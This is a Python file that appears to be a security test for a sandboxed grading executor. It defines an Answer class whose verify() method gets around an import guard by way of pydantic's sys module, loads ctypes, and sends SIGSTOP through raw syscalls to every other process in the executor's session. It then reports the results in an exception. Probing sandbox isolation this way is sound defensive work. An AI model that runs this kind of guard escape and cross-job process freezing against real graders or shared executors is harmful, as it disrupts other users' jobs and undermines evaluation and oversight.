# cross-job attack from verify(): escape the guard (pydantic.main's sys), then
# rt_sigqueueinfo(SIGSTOP) to every other process of the executor (the
# spawner included: later jobs' processes are never started) and
# rt_tgsigqueueinfo to the same. What each attempt gave is reported in this
# job's own result.
from pydantic import main
from verifleet.templates import BaseAnswer

_os = main.sys.modules["os"]
_io = main.sys.modules["io"]
_ctypes = main.sys.modules["importlib"].import_module("ctypes")
_SYS_RT_SIGQUEUEINFO = 129  # x86_64
_SYS_RT_TGSIGQUEUEINFO = 297


def _executor_processes():
    # This executor's other processes: with /proc (no pid namespace), those of
    # this session (the executor's); without (strict: a pid namespace of the
    # executor's own), every pid.
    own = _os.getpid()
    if _os.path.isdir("/proc/self"):
        session = _os.getsid(0)
        # Not the router (the spawner's parent), which must forward this
        # job's own answer: the report below is what the test reads.
        parent = _io.open("/proc/%d/stat" % _os.getppid()).read().rsplit(")", 1)[1].split()
        spared = {own, int(parent[1])}
        for name in _os.listdir("/proc"):
            if name.isdigit() and int(name) not in spared:
                try:
                    fields = _io.open("/proc/" + name + "/stat").read().rsplit(")", 1)[1].split()
                except Exception:
                    continue
                if int(fields[3]) == session:
                    yield int(name)
    else:
        yield from (pid for pid in range(3, 64) if pid != own)  # 1, 2: init, router


class Answer(BaseAnswer):
    value: str

    def model_post_init(self, context):
        self.correct = {"value": "attacker"}

    def verify(self) -> bool:
        libc = _ctypes.CDLL(None, use_errno=True)
        info = _ctypes.create_string_buffer(128)
        _ctypes.memmove(info, (19).to_bytes(4, "little") + bytes(4) + (-1).to_bytes(4, "little", signed=True), 12)
        seen = {}
        for pid in _executor_processes():
            for name, args in (
                ("sigqueue", (_SYS_RT_SIGQUEUEINFO, pid, 19, info)),
                ("tgsigqueue", (_SYS_RT_TGSIGQUEUEINFO, pid, pid, 19, info)),
            ):
                rc = libc.syscall(*args)
                outcome = "ok" if rc == 0 else "errno %d" % _ctypes.get_errno()
                seen.setdefault(name + "=" + outcome, 0)
                seen[name + "=" + outcome] += 1
        raise ValueError("ATTACK[" + " ".join(sorted(seen)) + "]")
